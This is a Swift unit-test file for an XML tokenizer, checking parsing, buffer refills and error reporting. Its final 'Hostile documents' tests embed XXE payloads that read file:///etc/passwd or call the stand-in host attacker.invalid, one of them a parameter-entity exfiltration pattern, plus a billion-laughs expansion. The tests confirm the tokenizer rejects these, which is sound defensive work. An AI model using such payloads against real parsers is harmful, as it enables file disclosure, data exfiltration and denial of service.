import Testing

@testable import GateKit

/// Gives its bytes one at a time: every token is split across refills at every position.
private final class TrickleSource: ByteSource {
    private let bytes: [UInt8]
    private var offset = 0

    init(_ text: String) { bytes = Array(text.utf8) }

    func read(into buffer: UnsafeMutableRawBufferPointer) throws(InputError) -> Int {
        guard offset < bytes.count, buffer.count > 0 else { return 0 }
        buffer[0] = bytes[offset]
        offset += 1
        return 1
    }

    func rewind() throws(InputError) { offset = 0 }
}

@Suite struct XMLTokenizerTests {
    /// The events of `text` as strings: `<a>`, `<b/>`, `</a>`, `'text'`.
    private func events(_ text: String, capacity: Int = InputBuffer.defaultCapacity) throws -> [String] {
        try events(XMLTokenizer(inputBuffer(text, capacity: capacity)))
    }

    private func events(_ xml: XMLTokenizer) throws -> [String] {
        var result: [String] = []
        while true {
            switch try xml.next() {
            case .startElement: result.append(xml.isSelfClosing ? "<\(xml.name)/>" : "<\(xml.name)>")
            case .endElement: result.append("</\(xml.name)>")
            case .text: result.append("'\(xml.text)'")
            case .end: return result
            }
        }
    }

    /// The error reading `text` to its end, or nil when it reads without one.
    private func failure(_ text: String, capacity: Int = InputBuffer.defaultCapacity, maxDepth: Int = 256)
        -> InputError?
    {
        failure(XMLTokenizer(inputBuffer(text, capacity: capacity), maxDepth: maxDepth))
    }

    private func failure(_ xml: XMLTokenizer) -> InputError? {
        do {
            while try xml.next() != .end {}
            return nil
        } catch {
            return error
        }
    }

    /// A tokenizer positioned on the first start element of `text`.
    private func firstElement(_ text: String, capacity: Int = InputBuffer.defaultCapacity) throws -> XMLTokenizer {
        let xml = XMLTokenizer(inputBuffer(text, capacity: capacity))
        #expect(try xml.next() == .startElement)
        return xml
    }

    // MARK: - Constructs

    @Test func reportsElementsTextAndTheEnd() throws {
        #expect(
            try events("<a><b>hi</b><c/><d x='1' /></a>")
                == ["<a>", "<b>", "'hi'", "</b>", "<c/>", "</c>", "<d/>", "</d>", "</a>"])
    }

    @Test func theEndIsReportedAgainWhenAskedAgain() throws {
        let xml = XMLTokenizer(inputBuffer("<a/>"))
        while try xml.next() != .end {}
        #expect(try xml.next() == .end)
    }

    @Test func readsAttributesInEitherQuotesWithWhiteSpaceAroundTheEqualsSign() throws {
        let xml = try firstElement("<t a=\"1\" b = '2'\n\tc\n=\n\"x > y\" d=\"\" e='say \"hi\"'>")
        #expect(xml.attribute("a")?.description == "1")
        #expect(xml.attribute("b")?.description == "2")
        #expect(xml.attribute("c")?.description == "x > y")
        #expect(xml.attribute("d")?.description == "")
        #expect(xml.attribute("e")?.description == "say \"hi\"")
        #expect(xml.attribute("missing") == nil)
        #expect(xml.attribute("") == nil)
    }

    @Test func attributesAreOnlyAvailableOnAStartElement() throws {
        let xml = try firstElement("<t a='1'>x</t>")
        #expect(try xml.next() == .text)
        #expect(xml.attribute("a") == nil)
    }

    @Test func decodesReferencesInAttributes() throws {
        let xml = try firstElement("<t m='a &lt;b&gt; &amp; &quot;c&quot; &apos;d&apos;&#10;&#x41;' n='plain &amp;'>")
        #expect(xml.attribute("m")?.description == "a <b> & \"c\" 'd'\nA")
        #expect(xml.attribute("n")?.description == "plain &")
    }

    @Test func decodesReferencesInText() throws {
        #expect(try events("<t>&lt;x&gt; &amp;&#65;&#x1F600;&#xe9;</t>") == ["<t>", "'<x> &A😀é'", "</t>"])
    }

    @Test func includesCDATAVerbatimAndJoinsItWithNeighbouringText() throws {
        #expect(
            try events("<t>a &amp; <![CDATA[<b> & ]] ]>]]> c<![CDATA[]]></t>")
                == ["<t>", "'a & <b> & ]] ]> c'", "</t>"])
        #expect(try events("<t><![CDATA[only]]></t>") == ["<t>", "'only'", "</t>"])
        #expect(try events("<t><![CDATA[x]]>&amp;</t>") == ["<t>", "'x&'", "</t>"])
    }

    @Test func skipsCommentsProcessingInstructionsAndTheDeclaration() throws {
        let text = """
            <?xml version="1.0" encoding="UTF-8"?>
            <!-- a comment with <tags> and -- dashes -->
            <?stylesheet href="x"?>
            <root><!-- inside -->a<!-- splits -->b<?pi <x>?></root>
            <!-- after -->
            """
        #expect(try events(text) == ["<root>", "'a'", "'b'", "</root>"])
    }

    @Test func neverReportsWhiteSpaceOnlyTextButKeepsWhiteSpaceCDATA() throws {
        #expect(
            try events("\n<a>\n  <b> </b>\n\t<c><![CDATA[ ]]></c>\r\n</a>\n") == [
                "<a>", "<b>", "</b>", "<c>", "' '", "</c>", "</a>",
            ])
    }

    @Test func skipsADoctypeWithoutFetchingIt() throws {
        let text = """
            <?xml version="1.0"?>
            <!DOCTYPE testsuites SYSTEM "http://example.invalid/junit.dtd">
            <testsuites/>
            """
        #expect(try events(text) == ["<testsuites/>", "</testsuites>"])
    }

    @Test func skipsADoctypeWhoseInternalSubsetDeclaresNoEntity() throws {
        let text = """
            <!DOCTYPE r PUBLIC "-//x//y" 'z.dtd' [
              <!ELEMENT r (#PCDATA)>
              <!ATTLIST r a CDATA "x]>">
              <!-- a comment that's not closing the subset: ] > -->
            ]>
            <r a='1'/>
            """
        #expect(try events(text) == ["<r/>", "</r>"])
    }

    @Test func namesKeepTheirPrefixAndLocalNameDropsIt() throws {
        let xml = try firstElement("<ns:testsuite xmlns:ns='urn:x'/>")
        #expect(xml.name.description == "ns:testsuite")
        #expect(xml.localName.description == "testsuite")
        #expect(xml.isSelfClosing)
    }

    @Test func reportsLinesAndDepths() throws {
        let xml = XMLTokenizer(inputBuffer("<?xml version='1.0'?>\n<a>\n  <b\n   x='1'>t\nu</b>\n<c/></a>"))
        var seen: [String] = []
        while try xml.next() != .end { seen.append("\(xml.line):\(xml.depth)") }
        #expect(seen == ["2:1", "3:2", "4:2", "5:2", "6:2", "6:2", "6:1"])
    }

    @Test func tokensSplitAcrossRefillsReadTheSame() throws {
        let text = """
            <?xml version="1.0" encoding="UTF-8"?>
            <!DOCTYPE r [ <!ELEMENT r ANY> <!-- ' --> ]>
            <!-- a comment longer than sixteen bytes -->
            <root attribute-with-a-long-name="a value that is much longer than sixteen bytes &amp; more"
                  spaced  =  'value'  >
              <child a='&#x1F600;&#128512;' b="&lt;&gt;">text with a reference &amp; more text after it</child>
              <![CDATA[ a CDATA section ]] longer than the buffer <not a tag> ]]>&quot;tail&quot;
              <self-closing-element-with-a-long-name/>
              <?processing instruction longer than the buffer?>
            </root>
            """
        let whole = try events(text)
        #expect(whole.count == 8)
        #expect(try events(XMLTokenizer(InputBuffer(source: TrickleSource(text), capacity: 16))) == whole)
        for capacity in [16, 17, 31, 64] {
            #expect(try events(text, capacity: capacity) == whole)
            let xml = try firstElement(text, capacity: capacity)
            #expect(xml.attribute("attribute-with-a-long-name")?.description.hasSuffix("& more") == true)
            #expect(xml.line == 4)
        }
    }

    @Test func textRunsAreTheSameWhateverTheChunksTheInputArrivesIn() throws {
        for text in ["<r><![CDATA[a]]>b</r>", "<r>a&amp;<![CDATA[b]]>&lt;c<![CDATA[]]></r>", "<r> <![CDATA[ ]]> </r>"] {
            let whole = try events(text)
            #expect(try events(XMLTokenizer(InputBuffer(source: TrickleSource(text), capacity: 16))) == whole)
            #expect(try events(text, capacity: 16) == whole)
        }
    }

    @Test func tagsAndDoctypesCutAtAWindowsEndAreReadWhole() throws {
        #expect(try events("<r a" + String(repeating: " ", count: 12) + "='1'/>", capacity: 16) == ["<r/>", "</r>"])
        let doctype = "<!DOCTYPE r [<!-- " + String(repeating: "c", count: 40) + " -->]><r/>"
        #expect(try events(doctype, capacity: 16) == ["<r/>", "</r>"])
    }

    @Test func nameAndTextAreEmptyForOtherEvents() throws {
        let xml = try firstElement("<r>text</r>")
        #expect(xml.text.isEmpty)
        #expect(try xml.next() == .text)
        #expect(xml.name.isEmpty)
        #expect(xml.localName.isEmpty)
        #expect(xml.text.description == "text")
    }

    @Test func readsUTF16ThroughTextDecoding() throws {
        var bytes: [UInt8] = [0xFF, 0xFE]
        for unit in "<r a='é'>😀</r>".utf16 { bytes += [UInt8(unit & 0xFF), UInt8(unit >> 8)] }
        let xml = XMLTokenizer(try decodedBuffer(bytes))
        #expect(try xml.next() == .startElement)
        #expect(xml.attribute("a")?.string() == "é")
        #expect(try xml.next() == .text)
        #expect(xml.text.string() == "😀")
    }

    @Test func leavesTextUTF8ValidationToTheCaller() throws {
        let xml = XMLTokenizer(InputBuffer(source: MemoryByteSource(Array("<r a='".utf8) + [0xFF] + Array("'>".utf8))))
        #expect(try xml.next() == .startElement)
        #expect(xml.attribute("a")?.string() == nil)
    }

    // MARK: - skipElement

    @Test func skipElementConsumesTheElementItStarts() throws {
        let text = """
            <r><skip a='>'><x><![CDATA[</skip>]]></x><!-- </skip> --><y/>&bogus;<?p </skip>?></skip><after/></r>
            """
        let xml = try firstElement(text)
        #expect(try xml.next() == .startElement)
        try xml.skipElement()
        #expect(xml.name.description == "skip")
        #expect(xml.depth == 2)
        #expect(try events(xml) == ["<after/>", "</after>", "</r>"])
    }

    @Test func skipElementAfterTextConsumesTheElementHoldingIt() throws {
        let xml = try firstElement("<r><m>first<i/>rest</m><n/></r>")
        #expect(try xml.next() == .startElement)
        #expect(try xml.next() == .text)
        try xml.skipElement()
        #expect(xml.name.description == "m")
        #expect(try events(xml) == ["<n/>", "</n>", "</r>"])
    }

    @Test func skipElementOfASelfClosingElementConsumesOnlyIt() throws {
        let xml = try firstElement("<r><e/><f/></r>")
        #expect(try xml.next() == .startElement)
        try xml.skipElement()
        #expect(try events(xml) == ["<f/>", "</f>", "</r>"])
    }

    @Test func skipElementDoesNothingOutsideTheRoot() throws {
        let xml = XMLTokenizer(inputBuffer("<r/>"))
        try xml.skipElement()
        #expect(try events(xml) == ["<r/>", "</r>"])
    }

    @Test func skipElementStillChecksThatTagsMatchAndTheFileIsComplete() throws {
        let mismatched = try firstElement("<r><s><a></b></s></r>")
        _ = try mismatched.next()
        #expect(throws: InputError.self) { try mismatched.skipElement() }
        let truncated = try firstElement("<r><s>" + String(repeating: "x", count: 100), capacity: 16)
        _ = try truncated.next()
        #expect(throws: InputError("unexpected end of file inside <s> started at line 1", line: 1)) {
            try truncated.skipElement()
        }
    }

    // MARK: - Errors

    @Test func theEndTagMustMatch() {
        #expect(
            failure("<a>\n<b>\n</c>")
                == InputError("end tag </c> does not match <b> started at line 2", line: 3, column: 1))
        #expect(failure("</a>") == InputError("end tag </a> without a matching start tag", line: 1, column: 1))
        #expect(failure("<a></ a>")?.message == "malformed end tag </ a>")
        #expect(failure("<a></a x>")?.message == "malformed end tag </a x>")
        let long = String(repeating: "b", count: 70)
        #expect(
            failure("<a></\(long)>")?.message
                == "end tag </\(String(repeating: "b", count: 60))…> does not match <a> started at line 1")
    }

    @Test func nestingDeeperThanTheLimitIsAnError() {
        #expect(failure("<a><a><a/></a></a>", maxDepth: 3) == nil)
        #expect(
            failure("<a><a><a><a/></a></a></a>", maxDepth: 3)?.message == "elements are nested more than 3 levels deep")
    }

    @Test func oneHundredThousandLevelsFailQuickly() {
        let deep = String(repeating: "<a>", count: 100_000) + String(repeating: "</a>", count: 100_000)
        let clock = ContinuousClock()
        let started = clock.now
        #expect(failure(deep)?.message == "elements are nested more than 256 levels deep")
        #expect(clock.now - started < .seconds(1))
    }

    @Test func truncatedDocumentsNameWhatWasOpen() {
        #expect(
            failure("<?xml version='1.0'?>\n<testsuites>\n  <testsuite name='x'>\n    <testcase/>\n")
                == InputError("unexpected end of file inside <testsuite> started at line 3", line: 5))
        #expect(failure("<r><t a='1") == InputError("unexpected end of file inside a tag started at line 1", line: 1))
        #expect(failure("<r></r") == InputError("unexpected end of file inside an end tag started at line 1", line: 1))
        #expect(
            failure("<r>\n<!-- x") == InputError("unexpected end of file inside a comment started at line 2", line: 2))
        #expect(
            failure("<r><![CDATA[x")
                == InputError("unexpected end of file inside a CDATA section started at line 1", line: 1))
        #expect(
            failure("<r><?pi")
                == InputError("unexpected end of file inside a processing instruction started at line 1", line: 1))
        #expect(
            failure("<!DOCTYPE r [")
                == InputError("unexpected end of file inside the DOCTYPE started at line 1", line: 1))
        #expect(failure("<r><") == InputError("unexpected end of file inside a tag started at line 1", line: 1))
        #expect(failure("<r><!-") == InputError("unexpected end of file inside a tag started at line 1", line: 1))
        #expect(failure("<r>x<![CD") == InputError("unexpected end of file inside a tag started at line 1", line: 1))
        #expect(failure("<r>text") == InputError("unexpected end of file inside <r> started at line 1", line: 1))
        #expect(
            failure("<r><t a='1' b='2'>", capacity: 16)?.message
                == "unexpected end of file inside <t> started at line 1")
    }

    @Test func aDocumentNeedsOneRootAndNoTextAroundIt() {
        #expect(failure("") == InputError("the document has no root element", line: 1))
        #expect(failure(" \n<!-- only a comment -->\n") == InputError("the document has no root element", line: 3))
        #expect(failure("<a/><b/>")?.message == "a second root element <b>: the document must have one root")
        #expect(failure("<a/>\ntrailing") == InputError("text after the root element", line: 2, column: 1))
        #expect(failure("junk<a/>") == InputError("text before the root element", line: 1, column: 1))
        #expect(failure("<![CDATA[x]]><a/>")?.message == "a CDATA section outside the root element")
        #expect(failure("<a/><!DOCTYPE a>")?.message == "a DOCTYPE is only allowed before the root element")
        #expect(failure("<a><!ELEMENT a ANY></a>")?.message.hasPrefix("unexpected markup '<!'") == true)
        #expect(failure("<a/>\n \t\r\n") == nil)
    }

    @Test func malformedTagsAreErrors() {
        #expect(
            failure("<a x=\"<\"/>")
                == InputError("'<' in the value of attribute 'x' of <a> (write it as &lt;)", line: 1, column: 7))
        #expect(failure("<a x/>")?.message == "attribute 'x' of <a> has no value: expected '='")
        #expect(failure("<a x=1/>")?.message == "the value of attribute 'x' of <a> must be in quotes")
        #expect(failure("<a x='1'y='2'/>")?.message == "attributes in the tag <a> must be separated by white space")
        #expect(failure("<a/ >")?.message == "expected '>' after '/' in the tag <a>")
        #expect(failure("<a \"x\"/>")?.message == "unexpected '\"' in the tag <a>")
        #expect(failure("<1a/>")?.message == "expected an element name, found '1'")
        #expect(failure("< a/>")?.message == "expected an element name, found byte 0x20")
        #expect(failure("<a><b x='1'\n<c/></a>")?.message == "unexpected '<' in the tag <b>")
        // After a refill the start of a long line is gone: the column is not known.
        #expect(
            failure("<r>" + String(repeating: "x", count: 40) + "<a b=c/></r>", capacity: 16)
                == InputError("the value of attribute 'b' of <a> must be in quotes", line: 1))
    }

    @Test func badReferencesAreErrors() {
        #expect(failure("<a>\n&foo;</a>") == InputError("undefined entity &foo;", line: 2, column: 1))
        #expect(failure("<a x='&nbsp;'/>")?.message == "undefined entity &nbsp;")
        #expect(
            failure("<a>fish & chips</a>")?.message
                == "'&' does not start a reference such as &amp; (write a literal '&' as &amp;)")
        #expect(failure("<a>&amp</a>")?.message.hasPrefix("'&' does not start a reference") == true)
        #expect(failure("<a>&;</a>")?.message.hasPrefix("'&' does not start a reference") == true)
        #expect(failure("<a>&#0;</a>")?.message == "character reference &#0; is not a valid character")
        #expect(failure("<a>&#xD800;</a>")?.message == "character reference &#xD800; is not a valid character")
        #expect(failure("<a>&#x110000;</a>")?.message == "character reference &#x110000; is not a valid character")
        #expect(
            failure("<a>&#99999999999999999999;</a>")?.message
                == "character reference &#99999999999999999999; is not a valid character")
        #expect(failure("<a>&#x;</a>")?.message == "malformed character reference &#x;")
        #expect(failure("<a>&#12a;</a>")?.message == "malformed character reference &#12a;")
        #expect(failure("<a>&#X41;</a>")?.message == "malformed character reference &#X41;")
    }

    @Test func invalidUTF8InNamesIsAnError() {
        let element = InputBuffer(
            source: MemoryByteSource([UInt8(ascii: "<"), 0xC3, 0x28, UInt8(ascii: "/"), UInt8(ascii: ">")]))
        #expect(failure(XMLTokenizer(element))?.message == "an element name is not valid UTF-8")
        let attribute = InputBuffer(source: MemoryByteSource(Array("<a ".utf8) + [0xE2, 0x82] + Array("='1'/>".utf8)))
        #expect(failure(XMLTokenizer(attribute))?.message == "an attribute name is not valid UTF-8")
        #expect(failure("<é b='1'/>") == nil)
    }

    @Test func aTokenLongerThanTheBufferMaximumIsAnErrorWithItsLine() {
        let input = InputBuffer(
            source: MemoryByteSource("<r>\n<t a='" + String(repeating: "x", count: 200) + "'/></r>"), capacity: 16,
            maximumCapacity: 64)
        let error = failure(XMLTokenizer(input))
        #expect(error?.message.hasPrefix("a single token is longer than") == true)
        #expect(error?.line == 2)
    }

    // MARK: - Hostile documents

    @Test func refusesEntityDeclarationsSoBillionLaughsCannotExpand() {
        let laughs = """
            <?xml version="1.0"?>
            <!DOCTYPE lolz [
             <!ENTITY lol "lol">
             <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
             <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
            ]>
            <lolz>&lol2;</lolz>
            """
        #expect(
            failure(laughs)
                == InputError(
                    "entity declarations are not allowed: protocol does not expand XML entities", line: 3, column: 2))
    }

    @Test func refusesExternalAndParameterEntities() {
        for declaration in [
            "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">",
            "<!ENTITY xxe SYSTEM \"http://attacker.invalid/x\">",
            "<!ENTITY % remote SYSTEM \"http://attacker.invalid/evil.dtd\"> %remote;",
            "<!ENTITY % file SYSTEM \"file:///etc/passwd\"><!ENTITY % eval \"<!ENTITY x SYSTEM 'http://a/?%file;'>\">",
        ] {
            let text = "<!DOCTYPE r [\n\(declaration)\n]>\n<r>&xxe;</r>"
            #expect(
                failure(text)?.message == "entity declarations are not allowed: protocol does not expand XML entities")
            #expect(
                failure(text, capacity: 16)?.message
                    == "entity declarations are not allowed: protocol does not expand XML entities")
        }
    }

    @Test func aReferenceToAnEntityOfAnExternalDTDIsUndefined() {
        let text = "<!DOCTYPE r SYSTEM \"file:///etc/passwd\">\n<r>&passwd;</r>"
        #expect(failure(text) == InputError("undefined entity &passwd;", line: 2, column: 4))
    }
}
